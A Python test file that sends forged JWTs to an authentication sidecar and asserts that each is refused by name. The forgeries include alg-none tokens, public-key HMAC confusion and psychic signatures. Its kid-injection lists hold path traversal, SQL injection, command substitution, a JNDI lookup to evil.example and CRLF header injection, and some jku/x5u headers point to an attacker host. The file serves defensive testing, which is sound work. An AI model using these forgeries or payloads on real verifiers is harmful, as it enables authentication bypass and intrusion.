"""Every token of attacks.md section 2 that is wrong in its algorithm, key, header or shape (R-013, R-046).

Each is sent over a raw socket to the running sidecar, twice: once it is looked at, once it is remembered.
"""

import hmac
import itertools
import json
import zlib
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass

import pytest
import pytest_asyncio
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.hashes import SHA1, SHA256, SHA384, SHA512, HashAlgorithm

from auth_proxy.refusals import Reason
from deploy.demo.issuer import SigningKey, sign_compact
from tests.fixtures.attacked import Attacked, attacked_sidecar, request
from tests.fixtures.forgery import SIGNATURES, Forge, ForgeSignature, compact_json, part, public_key_spellings
from tests.fixtures.token_corpus import lines_of

pytestmark = pytest.mark.asyncio(loop_scope="module")

Make = Callable[[Forge], str | bytes]


@dataclass(frozen=True)
class Case:
    """A token, the line of attacks.md that asks for it, and the one reason to refuse it."""

    line: str
    name: str
    make: Make
    reason: Reason


CASES: list[Case] = []


def cases(line: str, reason: Reason, **makers: Make) -> None:
    CASES.extend(Case(line, name.replace("_", " "), make, reason) for name, make in makers.items())


def named(line: str, reason: Reason, makers: dict[str, Make]) -> None:
    CASES.extend(Case(line, name, make, reason) for name, make in makers.items())


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def attacked(
    access_key: SigningKey, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Attacked]:
    """One sidecar for the whole table."""
    folder = tmp_path_factory.mktemp("tokens")
    async with attacked_sidecar(access_key, SigningKey.generate(), folder) as running:
        yield running


# --- the algorithm ---------------------------------------------------------------------------------


def _with_alg(alg: object, signature: ForgeSignature = SIGNATURES["of zeros"]) -> Make:
    return lambda forge: forge.with_signature(signature, alg=alg)


def _unsigned(alg: object) -> Make:
    return lambda forge: forge.token(forge.header(alg=alg), key=b"")


ODD_ALGORITHMS: tuple[object, ...] = (
    *("", " none", "none ", "none\x00", "ｎｏｎｅ"),
    *(None, False, 0, [], {}, ["RS256"], ["none"]),
)
NONES = ["".join(letters) for letters in itertools.product("nN", "oO", "nN", "eE")]
named("alg none", Reason.TOKEN_MALFORMED, {f"{alg} without a signature": _unsigned(alg) for alg in NONES})
named("alg none", Reason.TOKEN_ALGORITHM, {f"{alg} with a signature": _with_alg(alg) for alg in NONES})
named(
    "alg none",
    Reason.TOKEN_ALGORITHM,
    {f"alg is {alg!r}": _with_alg(alg) for alg in ODD_ALGORITHMS},
)
cases(
    "alg none",
    Reason.TOKEN_ALGORITHM,
    alg_missing=lambda forge: forge.token(forge.header(without=["alg"])),
    none_but_really_signed=lambda forge: forge.token(forge.header(alg="none")),
)


def _hmac(alg: str, spelling: str) -> Make:
    return lambda forge: forge.token(forge.header(alg=alg), key=public_key_spellings(forge.team)[spelling])


SPELLINGS = list(public_key_spellings(SigningKey.generate()))
named(
    "HS256 with the public key",
    Reason.TOKEN_ALGORITHM,
    {f"{alg}, {name}": _hmac(alg, name) for alg in ("HS256", "HS384", "hs256") for name in SPELLINGS},
)
named(
    "HS256 with the public key",
    Reason.TOKEN_SIGNATURE,
    {f"as RS256, {name}": _hmac("RS256", name) for name in SPELLINGS},
)
cases(
    "HS256 with the public key",
    Reason.TOKEN_ALGORITHM,
    an_empty_secret=lambda forge: forge.with_signature(lambda m, _t, _f: _empty_hmac(m), alg="HS256"),
)


def _empty_hmac(message: bytes) -> bytes:
    return hmac.digest(b"", message, "sha256")


def _pkcs1(hashing: HashAlgorithm) -> ForgeSignature:
    return lambda message, team, _forger: team.private.sign(message, padding.PKCS1v15(), hashing)


def _pss(hashing: HashAlgorithm) -> ForgeSignature:
    pss = padding.PSS(padding.MGF1(hashing), hashing.digest_size)
    return lambda message, team, _forger: team.private.sign(message, pss, hashing)


def _ecdsa(message: bytes, _team: SigningKey, _forger: SigningKey) -> bytes:
    return ec.generate_private_key(ec.SECP256R1()).sign(message, ec.ECDSA(SHA256()))


def _eddsa(message: bytes, _team: SigningKey, _forger: SigningKey) -> bytes:
    return Ed25519PrivateKey.generate().sign(message)


SWAPS: dict[str, ForgeSignature] = {
    "RS384": _pkcs1(SHA384()),
    "RS512": _pkcs1(SHA512()),
    "RS1": _pkcs1(SHA1()),
    "PS256": _pss(SHA256()),
    "PS384": _pss(SHA384()),
    "PS512": _pss(SHA512()),
    "ES256": _ecdsa,
    "ES256K": _ecdsa,
    "EdDSA": _eddsa,
    "Ed25519": _eddsa,
    "rs256": _pkcs1(SHA256()),
    "RS256 ": _pkcs1(SHA256()),
    "RS256\x00": _pkcs1(SHA256()),
    "RSA-OAEP": _pkcs1(SHA256()),
    "dir": _pkcs1(SHA256()),
    "ＲＳ256": _pkcs1(SHA256()),
}
named(
    "PS/ES/other RS swaps",
    Reason.TOKEN_ALGORITHM,
    {f"{alg!r}, really signed": _with_alg(alg, signature) for alg, signature in SWAPS.items()},
)


def _line_of_signature(name: str) -> str:
    if name.startswith("padded"):
        return "RS256 with a malformed PKCS#1 padding"
    if name.startswith("psychic"):
        return "psychic"
    if name.startswith(("with PSS", "with SHA", "of an elliptic")):
        return "PS/ES/other RS swaps"
    return "signature of another key" if name == "by another key" else "signature of zeros"


def _signed(forge_signature: ForgeSignature) -> Make:
    return lambda forge: forge.with_signature(forge_signature)


CASES.extend(
    Case(_line_of_signature(name), f"a signature {name}", _signed(signature), Reason.TOKEN_SIGNATURE)
    for name, signature in SIGNATURES.items()
)
cases(
    "psychic",
    Reason.TOKEN_ALGORITHM,
    ES256_of_64_zeros=_with_alg("ES256", lambda _m, _t, _f: bytes(64)),
    ES512_of_132_zeros=_with_alg("ES512", lambda _m, _t, _f: bytes(132)),
    EdDSA_of_64_zeros=_with_alg("EdDSA", lambda _m, _t, _f: bytes(64)),
)


def _other_payload(forge: Forge) -> str:
    header, _, signature = forge.token().split(".")
    return f"{header}.{part(compact_json(forge.claims(email='eve@example.com')))}.{signature}"


def _other_header(forge: Forge) -> str:
    _, payload, signature = forge.token().split(".")
    return f"{part(compact_json(forge.header(x=1)))}.{payload}.{signature}"


cases(
    "signature of another key",
    Reason.TOKEN_SIGNATURE,
    the_signature_of_another_payload=_other_payload,
    the_signature_of_another_header=_other_header,
    parts_exchanged=lambda forge: forge.with_signature(
        lambda m, team, _f: team.sign(b".".join(reversed(m.split(b"."))))
    ),
)

# --- the key id ------------------------------------------------------------------------------------


def _kid(kid: object, key: bytes | None = None) -> Make:
    return lambda forge: forge.token(forge.header(kid=kid), key=forge.forger if key is None else key)


cases("kid absent", Reason.TOKEN_HEADER, absent=lambda f: f.token(f.header(without=["kid"])))
named(
    "kid absent",
    Reason.TOKEN_HEADER,
    {f"kid is {kid!r}": _kid(kid) for kid in (None, "", 0, 1, True, [], {}, ["a"], {"kid": "a"}, 1.5)},
)
cases(
    "kid unknown",
    Reason.TOKEN_KEY_UNKNOWN,
    of_the_forger=lambda f: f.token(f.header(kid=f.forger.kid), key=f.forger),
    of_the_forger_but_signed_by_the_team=lambda f: f.token(f.header(kid=f.forger.kid)),
    in_capitals=lambda f: f.token(f.header(kid=f.team.kid.upper() + "A")),
    cut=lambda f: f.token(f.header(kid=f.team.kid[:-1])),
    longer=lambda f: f.token(f.header(kid=f.team.kid + "0")),
    the_word_keys=lambda f: f.token(f.header(kid="keys")),
    of_python=lambda f: f.token(f.header(kid="__class__")),
)
PRINTABLE_KIDS = (
    "../../../../../../dev/null",
    "/proc/self/environ",
    "file:///dev/null",
    "C:\\windows\\win.ini",
    "'OR'1'='1'--",
    "'UNION/**/SELECT'AA",
    "https://evil.example/keys.json",
    "//evil.example/keys",
    "%2e%2e%2fkey",
    "|id",
    "$(id)",
    "`id`",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "*",
    ".*",
    "%s%n",
)
UNPRINTABLE_KIDS = ("a\x00", "\x00", "a\r\nX-Internal-Identity: x", "a b", "\u212a", "é", "\u202e", "a" * 257)
named(
    "kid injected",
    Reason.TOKEN_KEY_UNKNOWN,
    {f"kid {kid}": _kid(kid, key=b"AA") for kid in PRINTABLE_KIDS},
)
named(
    "kid injected",
    Reason.TOKEN_HEADER,
    {f"kid {kid[:30]!r}": _kid(kid, key=b"AA") for kid in UNPRINTABLE_KIDS},
)
cases(
    "kid injected",
    Reason.TOKEN_MALFORMED,
    a_kid_of_8_KB=_kid("k" * 8192),
    a_kid_with_a_lone_surrogate=_kid("\ud800"),
)
cases("kid injected", Reason.HEADERS_TOO_LARGE, a_kid_of_1_MB=_kid("k" * 1_048_576))

# --- header members that ask for something -----------------------------------------------------------


def _header(**members: object) -> Make:
    return lambda forge: forge.token(forge.header(**members))  # type: ignore[arg-type]  # never `without`


def _own_key(**members: Callable[[Forge], object]) -> Make:
    """Signed by the forger, who brings the key along, under the team's `kid` or under the forger's."""
    return lambda forge: forge.token(
        forge.header() | {name: make(forge) for name, make in members.items()}, key=forge.forger
    )


cases(
    "embedded jwk, jku, x5u, x5c",
    Reason.TOKEN_HEADER,
    jwk=_own_key(jwk=lambda f: f.forger.jwk()),
    jwk_and_its_kid=_own_key(jwk=lambda f: f.forger.jwk(), kid=lambda f: f.forger.kid),
    jwk_with_the_teams_kid=_own_key(jwk=lambda f: {**f.forger.jwk(), "kid": f.team.kid}),
    jku=_own_key(jku=lambda _: "https://evil.example/keys"),
    jku_on_the_teams_domain=_own_key(jku=lambda f: f"{f.issuer.team_domain}@evil.example/keys"),
    jku_of_the_team=_own_key(jku=lambda f: f"{f.issuer.team_domain}/cdn-cgi/access/certs"),
    x5u=_own_key(x5u=lambda _: "https://evil.example/chain.pem"),
    x5c=_own_key(x5c=lambda f: [f.forger.certificate("https://a.example")["cert"]]),
    jwk_of_the_team_really_signed=lambda f: f.token(f.header(jwk=f.team.jwk())),
)
named(
    "crit, b64:false, zip, enc (JWE given)",
    Reason.TOKEN_HEADER,
    {
        f"{name} {value!r}": _header(**{name: value})
        for name, value in (
            ("crit", ["b64"]),
            ("crit", []),
            ("crit", ["exp"]),
            ("crit", None),
            ("b64", False),
            ("b64", True),
            ("enc", "A256GCM"),
            ("cty", "JWT"),
            ("zip", "GZ"),
            ("typ", "at+jwt"),
            ("typ", "sally+jwt"),
            ("typ", "JOSE+JSON"),
            ("typ", ""),
            ("typ", None),
            ("typ", 1),
            ("typ", ["JWT"]),
        )
    },
)


def _unencoded_payload(forge: Forge) -> str:
    """RFC 7797: the payload is signed as it is."""
    header = part(compact_json(forge.header(b64=False, crit=["b64"])))
    payload = compact_json(forge.claims()).decode()
    return f"{header}.{payload}.{part(forge.team.sign(f'{header}.{payload}'.encode()))}"


def _five_parts(forge: Forge) -> str:
    header = part(compact_json({"alg": "RSA-OAEP", "enc": "A256GCM", "kid": forge.team.kid}))
    return ".".join(
        (header, part(bytes(256)), part(bytes(12)), part(compact_json(forge.claims())), part(bytes(16)))
    )


cases(
    "crit, b64:false, zip, enc (JWE given)",
    Reason.TOKEN_HEADER,
    a_deflated_payload=lambda f: f.token(f.header(zip="DEF"), zlib.compress(compact_json(f.claims()))),
    b64_false_and_crit=lambda f: f.token(f.header(b64=False, crit=["b64"])),
)
cases(
    "crit, b64:false, zip, enc (JWE given)",
    Reason.TOKEN_MALFORMED,
    an_unencoded_payload=_unencoded_payload,
    a_JWE=_five_parts,
    a_JWE_that_says_RS256=lambda f: f"{f.token()}.{part(bytes(12))}.{part(bytes(16))}",
)

# --- shapes ----------------------------------------------------------------------------------------


def _flattened(forge: Forge) -> str:
    header, payload, signature = forge.token().split(".")
    return json.dumps({"protected": header, "payload": payload, "signature": signature})


def _general(forge: Forge) -> str:
    header, payload, signature = forge.token().split(".")
    return json.dumps({"payload": payload, "signatures": [{"protected": header, "signature": signature}]})


def _unprotected(forge: Forge) -> str:
    _, payload, signature = forge.token().split(".")
    return json.dumps({"header": forge.header(alg="none"), "payload": payload, "signature": signature})


def _text(change: Callable[[str], str]) -> Make:
    return lambda forge: change(forge.token())


def _parts(change: Callable[[str, str, str], str]) -> Make:
    return lambda forge: change(*forge.token().split("."))


cases(
    "JSON serialisation",
    Reason.TOKEN_MALFORMED,
    flattened=_flattened,
    general=_general,
    with_an_unprotected_header=_unprotected,
    in_a_list=_text(lambda token: json.dumps([token])),
    in_quotes=_text(json.dumps),
)
cases(
    "two dots, five parts",
    Reason.TOKEN_MALFORMED,
    one_part=_parts(lambda h, _p, _s: h),
    two_parts=_parts(lambda h, p, _s: f"{h}.{p}"),
    no_signature=_parts(lambda h, p, _s: f"{h}.{p}."),
    no_payload=_parts(lambda h, _p, s: f"{h}..{s}"),
    no_header=_parts(lambda _h, p, s: f".{p}.{s}"),
    only_dots=lambda _: "..",
    one_dot=lambda _: ".",
    four_parts=_text(lambda token: f"{token}.AAAA"),
    five_parts=_text(lambda token: f"{token}.AAAA.AAAA"),
    a_dot_behind=_text(lambda token: f"{token}."),
    a_dot_before=_text(lambda token: f".{token}"),
    two_dots_for_one=_text(lambda token: token.replace(".", "..")),
    twice=_text(lambda token: f"{token}.{token}"),
    a_thousand_dots=lambda _: "." * 1000,
    the_word_null=lambda _: "null",
    one_letter=lambda _: "a",
)


def _padded(number: int, pad: str) -> Make:
    def make(forge: Forge) -> str:
        parts = forge.token().split(".")
        parts[number] += pad
        return ".".join(parts)

    return make


cases(
    "padding",
    Reason.TOKEN_MALFORMED,
    **{
        f"{pad} behind part {number}": _padded(number, pad)
        for pad in ("=", "==", "===")
        for number in range(3)
    },
)


def _blank_at_the_dot(blank: str) -> Make:
    return _text(lambda token: token.replace(".", f".{blank}", 1))


def _blank_in_the_signature(blank: str) -> Make:
    return _text(lambda token: f"{token[:-9]}{blank}{token[-9:]}")


BLANKS = {"a blank": " ", "a tab": "\t", "four blanks": "    "}
cases(
    "whitespace",
    Reason.TOKEN_MALFORMED,
    **{f"{name} at the dot": _blank_at_the_dot(blank) for name, blank in BLANKS.items()},
    **{f"{name} in the signature": _blank_in_the_signature(blank) for name, blank in BLANKS.items()},
    a_no_break_space_behind=_text(lambda token: f"{token}\u00a0"),
    an_ideographic_space_before=_text(lambda token: f"\u3000{token}"),
    a_zero_width_space=_text(lambda token: f"{token}\u200b"),
)
cases(
    "whitespace",
    Reason.REQUEST_MALFORMED,
    a_line_break=_text(lambda token: f"{token[:-9]}\n{token[-9:]}"),
    a_carriage_return=_text(lambda token: f"{token[:-9]}\r{token[-9:]}"),
    a_folded_line=_text(lambda token: f"{token[:-9]}\r\n {token[-9:]}"),
    a_vertical_tab=_text(lambda token: f"{token}\x0b"),
    a_form_feed=_text(lambda token: f"{token}\x0c"),
)
cases(
    "percent-encoded",
    Reason.TOKEN_MALFORMED,
    the_dots=_text(lambda token: token.replace(".", "%2e")),
    one_letter=_text(lambda token: f"%65{token[1:]}"),
    a_question_mark=_text(lambda token: f"{token}?x=1"),
    a_fragment=_text(lambda token: f"{token}#x"),
    an_entity=_text(lambda token: token.replace(".", "&#46;")),
)
cases(
    "Bearer prefix",
    Reason.TOKEN_MALFORMED,
    Bearer=_text(lambda token: f"Bearer {token}"),
    bearer_in_small_letters=_text(lambda token: f"bearer {token}"),
    JWT=_text(lambda token: f"JWT {token}"),
    the_cookies_name=_text(lambda token: f"CF_Authorization={token}"),
    two_with_a_comma=lambda forge: f"{forge.token()},{forge.token()}",
    two_with_a_semicolon=lambda forge: f"{forge.token()}; {forge.token()}",
    a_parameter=_text(lambda token: f'{token}; charset="utf-8"'),
)
cases("1 MB", Reason.HEADERS_TOO_LARGE, one_megabyte=_text(lambda token: token + "A" * 1_048_576))
cases(
    "1 MB",
    Reason.TOKEN_MALFORMED,
    a_byte_above_the_limit=_text(lambda token: token + "A" * (16_385 - len(token))),
    a_payload_of_20_KB=lambda forge: forge.token(payload=forge.claims(filler="x" * 15_000)),
)

# --- JSON ------------------------------------------------------------------------------------------

DEEP_LIST, DEEP_OBJECT = "[" * 1000 + "]" * 1000, '{"a":' * 500 + "1" + "}" * 500


def _payload_text(change: Callable[[str], str | bytes]) -> Make:
    def make(forge: Forge) -> str:
        changed = change(forge.text_of_claims())
        return forge.token(
            payload=changed if isinstance(changed, bytes) else changed.encode("utf-8", "surrogatepass")
        )

    return make


def _header_text(change: Callable[[str], str | bytes]) -> Make:
    def make(forge: Forge) -> str:
        changed = change(forge.text_of_header())
        return forge.token(
            changed if isinstance(changed, bytes) else changed.encode("utf-8", "surrogatepass")
        )

    return make


def _member(text: str) -> Callable[[str], str]:
    """A member more at the end of a JSON object."""
    return lambda json_text: f"{json_text[:-1]},{text}}}"


def _first_member(text: str) -> Callable[[str], str]:
    return lambda json_text: f"{{{text},{json_text[1:]}"


def both(line: str, **changes: Callable[[str], str | bytes]) -> None:
    """The same change in the header and in the payload."""
    for name, change in changes.items():
        words = name.replace("_", " ")
        CASES.append(Case(line, f"header: {words}", _header_text(change), Reason.TOKEN_MALFORMED))
        CASES.append(Case(line, f"payload: {words}", _payload_text(change), Reason.TOKEN_CLAIMS))


both(
    "deep nesting",
    lists=_member(f'"x":{DEEP_LIST}'),
    objects=_member(f'"x":{DEEP_OBJECT}'),
    unclosed=lambda _: "[" * 2000,
    one_level_too_many=_member('"x":' + "[" * 16 + "]" * 16),
)
both(
    "5000-digit number",
    digits=_member('"x":' + "9" * 2900),
    a_fraction=_member('"x":0.' + "9" * 2900),
    an_exponent=_member('"x":1e' + "9" * 30),
    beyond_a_double=_member('"x":1e400'),
)
CASES.append(
    Case(
        "5000-digit number",
        "exp of 5000 digits",
        _payload_text(_member('"big":' + "9" * 5000)),
        Reason.TOKEN_CLAIMS,
    )
)
both(
    "NaN",
    NaN=_member('"x":NaN'),
    Infinity=_member('"x":Infinity'),
    minus_Infinity=_member('"x":-Infinity'),
    a_plus_sign=_member('"x":+1'),
    a_leading_zero=_member('"x":01'),
    a_hexadecimal=_member('"x":0x1'),
    a_comma_behind=lambda text: f"{text[:-1]},}}",
    a_comment=lambda text: f"{text}/**/",
    rubbish_behind=lambda text: f"{text}x",
    two_documents=lambda text: text + text,
    single_quotes=lambda text: text.replace('"', "'"),
    a_NUL_behind=lambda text: f"{text}\x00",
    a_raw_line_break_in_a_string=_member('"x":"a\nb"'),
    a_list=lambda text: f"[{text}]",
    a_string=json.dumps,
    null=lambda _: "null",
    a_number=lambda _: "1",
)
both(
    "duplicate members",
    twice_the_same=_member('"x":1,"x":1'),
    nested=_member('"x":{"a":1,"a":2}'),
    escaped=_member('"x":1,"\\u0078":2'),
)
cases(
    "duplicate members",
    Reason.TOKEN_MALFORMED,
    alg_none_first=_header_text(_first_member('"alg":"none"')),
    alg_none_last=_header_text(_member('"alg":"none"')),
    kid_twice=_header_text(_member('"kid":"other"')),
    alg_escaped=_header_text(_member('"\\u0061lg":"none"')),
)
cases(
    "duplicate members",
    Reason.TOKEN_CLAIMS,
    email_last=_payload_text(_member('"email":"eve@example.com"')),
    email_first=_payload_text(_first_member('"email":"eve@example.com"')),
    email_escaped=_payload_text(_member('"\\u0065mail":"eve@example.com"')),
    exp_twice=_payload_text(_member('"exp":4102444800')),
    aud_twice=_payload_text(_member('"aud":[]')),
)
both("BOM", before=lambda text: f"\ufeff{text}", behind=lambda text: f"{text}\ufeff")
both(
    "UTF-16",
    little=lambda text: text.encode("utf-16-le"),
    big=lambda text: text.encode("utf-16-be"),
    with_its_mark=lambda text: text.encode("utf-16"),
    UTF_32=lambda text: text.encode("utf-32"),
    latin_1=lambda text: _member('"x":"é"')(text).encode("latin-1"),
    overlong=lambda text: _member('"x":"@@"')(text).encode().replace(b"@@", b"\xc0\xaf"),
    cut_character=lambda text: text.encode() + b"\xc3",
)
both(
    "lone surrogate",
    escaped=_member('"x":"\\ud800"'),
    escaped_low=_member('"x":"\\udc00"'),
    reversed=_member('"x":"\\udc00\\ud800"'),
    raw=_member('"x":"\ud800"'),
    as_a_name=_member('"\\ud800":1'),
)

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def _spare_bits(text: str) -> str:
    """Another spelling of the same bytes: the bits of the last character that no byte uses."""
    assert len(text) % 4 in (2, 3)
    return text[:-1] + ALPHABET[ALPHABET.index(text[-1]) ^ 1]


def _odd_length(make: Callable[[int], str]) -> str:
    """The first of a few texts whose last base64url character has spare bits."""
    return next(text for text in map(make, range(3)) if len(text.split(".")[1]) % 4 in (2, 3))


def _spare_bits_of_payload(forge: Forge) -> str:
    token = _odd_length(lambda size: forge.token(payload=forge.claims(filler="x" * size)))
    header, payload, signature = token.split(".")
    return f"{header}.{_spare_bits(payload)}.{signature}"


def _spare_bits_signed(forge: Forge) -> str:
    """Even when the odd spelling is what was signed."""
    header, payload, _ = _spare_bits_of_payload(forge).split(".")
    return f"{header}.{payload}.{part(forge.team.sign(f'{header}.{payload}'.encode()))}"


cases(
    "non-canonical base64 bits",
    Reason.TOKEN_MALFORMED,
    of_the_signature=_parts(lambda h, p, s: f"{h}.{p}.{_spare_bits(s)}"),
    of_the_payload=_spare_bits_of_payload,
    of_the_payload_really_signed=_spare_bits_signed,
    a_character_more=_parts(lambda h, p, s: f"{h}.{p}.{s}AAA"),
    plus_and_slash=_parts(lambda h, p, s: f"{h}.{p}.+/{s[2:]}"),
    a_comma_in_it=_parts(lambda h, p, s: f"{h}.{p}.{s[:9]},{s[9:]}"),
    full_width_letters=_parts(lambda h, p, s: f"{h}.{p}.{s[:-1]}Ａ"),
    full_width_dots=_text(lambda token: token.replace(".", "\uff0e")),
    a_byte_of_UTF_8=_text(lambda token: f"{token}é"),
)
cases(
    "non-canonical base64 bits",
    Reason.HEADER_MALFORMED,
    a_byte_that_is_no_UTF_8=lambda forge: forge.token().encode() + b"\xff",
    a_raw_lone_surrogate=_text(lambda token: f"{token}\ud800"),
    latin_1=lambda forge: f"{forge.token()}é".encode("latin-1"),
)
cases(
    "non-canonical base64 bits",
    Reason.REQUEST_MALFORMED,
    a_control_byte=lambda forge: forge.token().encode() + b"\x01",
    NUL=lambda forge: forge.token().encode() + b"\x00",
    delete=lambda forge: forge.token().encode() + b"\x7f",
)


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.line}: {case.name}")
async def test_a_forged_token_is_refused_by_name_and_reaches_nobody(attacked: Attacked, case: Case) -> None:
    """R-012, R-013, R-041, R-046: named refusal, one count, no byte upstream, no token in the log."""
    token = case.make(attacked.forge)
    for _ in range(2):
        attempt = await attacked.present(token)
        attempt.must_be_refused(case.reason, secret=token)


async def test_the_table_has_every_line_of_the_attack_list() -> None:
    """attacks.md section 2, algorithm to encodings: a line without a case is a gap (R-013)."""
    assert {case.line for case in CASES} == lines_of("test_token_attacks")
    assert len({(case.line, case.name) for case in CASES}) == len(CASES)


async def test_the_forge_makes_good_tokens_unless_it_is_told_otherwise(attacked: Attacked) -> None:
    """R-012, R-013: each part of a forged token but the forged one is right, or the table proves nothing."""
    claims = await attacked.must_let_pass(attacked.forge.token())

    assert claims["email"] == attacked.forge.person.email
    assert claims["sub"] == attacked.forge.person.sub


@pytest.mark.parametrize("blanks", [" ", "\t", "  \t "])
async def test_blanks_around_a_header_value_are_no_part_of_the_token(attacked: Attacked, blanks: str) -> None:
    """RFC 9110 5.5: optional white space is the framing's; what goes on is canonical (R-012)."""
    await attacked.must_let_pass(f"{blanks}{attacked.forge.token()}{blanks}")


@pytest.mark.parametrize("typ", ["jwt", "Jwt"])
async def test_typ_is_a_media_type_and_has_no_case(attacked: Attacked, typ: str) -> None:
    """RFC 7515 4.1.9: `typ` is compared without case, and may be absent (R-013)."""
    await attacked.must_let_pass(attacked.forge.token(attacked.forge.header(typ=typ)))
    await attacked.must_let_pass(attacked.forge.token(attacked.forge.header(without=["typ"])))


@pytest.mark.parametrize(
    "line",
    ["Authorization: Bearer {}", "Cf-Access-Token: {}", "Cookie: CF_Authorization={}", "X-Access-Token: {}"],
)
async def test_a_good_token_in_another_place_proves_nothing(attacked: Attacked, line: str) -> None:
    """R-012, R-042: only Cf-Access-Jwt-Assertion is read; the same token elsewhere is no token."""
    token = attacked.forge.token()
    attempt = await attacked.attempt(request(None, line.format(token)))

    attempt.must_be_refused(Reason.TOKEN_MISSING, secret=token)


async def test_a_good_token_in_the_query_proves_nothing(attacked: Attacked) -> None:
    """R-012, R-042: a token in an address ends in logs and Referer headers; it is not even read."""
    token = attacked.forge.token()
    attempt = await attacked.attempt(request(None, target=f"/api/admin/tenants?cf_access_token={token}"))

    attempt.must_be_refused(Reason.TOKEN_MISSING, secret=token)


async def test_an_empty_token_is_no_token(attacked: Attacked) -> None:
    """R-042: an empty header is a request without a token."""
    for empty in ("", " ", "\t"):
        attempt = await attacked.present(empty)
        attempt.must_be_refused(Reason.TOKEN_MISSING)


async def test_two_tokens_are_never_chosen_from(attacked: Attacked) -> None:
    """R-012: a good token beside a bad one, in either order or spelling, is refused, not picked."""
    good, bad = attacked.forge.token(), attacked.forge.token(key=attacked.forge.forger)
    for first, second in ((good, bad), (bad, good), (good, good)):
        for name in ("Cf-Access-Jwt-Assertion", "CF_ACCESS_JWT_ASSERTION", "cf.access.jwt.assertion"):
            attempt = await attacked.present(first, f"{name}: {second}")
            attempt.must_be_refused(Reason.CREDENTIAL_DUPLICATED, secret=second)


async def test_a_signature_proves_only_its_own_token(attacked: Attacked) -> None:
    """R-013: after a good token was remembered, its neighbours that share two parts of three are refused."""
    forge = attacked.forge
    good = forge.token()
    await attacked.must_let_pass(good)
    header, payload, signature = good.split(".")
    eve = part(compact_json(forge.claims(email="eve@example.com", sub="eve")))
    for forged, reason in (
        (f"{header}.{eve}.{signature}", Reason.TOKEN_SIGNATURE),
        (f"{part(compact_json(forge.header(alg='none')))}.{payload}.{signature}", Reason.TOKEN_ALGORITHM),
        (f"{header}.{payload}.{_spare_bits(signature)}", Reason.TOKEN_MALFORMED),
        (sign_compact(compact_json(forge.header()), compact_json({}), forge.team), Reason.TOKEN_CLAIMS),
    ):
        (await attacked.present(forged)).must_be_refused(reason, secret=forged)
    await attacked.must_let_pass(good)
